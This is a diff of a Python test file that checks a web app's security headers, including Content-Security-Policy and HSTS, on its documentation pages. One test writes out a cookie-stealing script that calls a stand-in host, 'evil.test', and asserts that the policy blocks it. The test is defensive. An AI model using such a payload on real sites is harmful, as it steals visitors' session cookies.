@@ -65,7 +65,7 @@ def is_loose(sources):
     return "'unsafe-inline'" in sources and not exact
 
 
-def test_every_answer_has_them(database):
+def test_every_answer_has_them():
     """Every answer, also a refusal and an error 500, says `X-Content-Type-Options: nosniff`,
     `X-Frame-Options: DENY`, `Referrer-Policy: no-referrer`, and with `Content-Security-Policy` that
     nothing in it may be loaded or run (`default-src 'none'`) and no page may frame it
@@ -90,10 +90,10 @@ def test_every_answer_has_them(database):
         assert policy.get("frame-ancestors") == ["'none'"]
 
 
-def test_https_is_asked_for_where_there_is_https(database):
-    """`Strict-Transport-Security` is sent over TLS, for a year at least, and never over plain HTTP.
-    A header X-Forwarded-Proto of anybody does not make a request secure: the server decides whose
-    word counts."""
+def test_https_is_asked_for_where_there_is_https():
+    """`Strict-Transport-Security` is sent over TLS, for a year at least, and never over plain
+    HTTP. A header X-Forwarded-Proto of anybody does not make a request secure: the server decides
+    whose word counts."""
     app = new_app()
     with started(app, **HTTPS) as client:
         header = client.get("/health").headers["strict-transport-security"]
@@ -123,13 +123,14 @@ def test_the_documentation_still_works(client, path):
         ("worker-src", "blob:"),
     ):
         sources = policy.get(kind, policy.get("default-src", []))
-        assert path == "/docs" and kind == "worker-src" or needed in sources
+        only_for_redoc = kind == "worker-src" and path == "/docs"
+        assert only_for_redoc or needed in sources
 
 
 @pytest.mark.parametrize("path", ["/docs", "/redoc"])
 def test_a_smuggled_script_does_not_run(client, path):
-    """The scripts of a page are named by a hash or a nonce: one that somebody smuggles into the page
-    does not run, nor one from another host, nor may another page frame this one."""
+    """The scripts of a page are named by a hash or a nonce: one that somebody smuggles into the
+    page does not run, nor one from another host, nor may another page frame this one."""
     policy = policy_of(client.get(path))
     sources = policy.get("script-src", policy.get("default-src", ["*"]))
     assert not runs(policy, None, "fetch('https://evil.test/' + document.cookie)")
@@ -171,7 +172,7 @@ def test_caches_of_one_person_may_keep_them(database):
             assert received == answered
 
 
-def test_what_an_operation_says_counts_more(database):
+def test_what_an_operation_says_counts_more():
     """A header that an operation sets itself is left as it is, and sent once."""
 
     def read(response: Response) -> str:
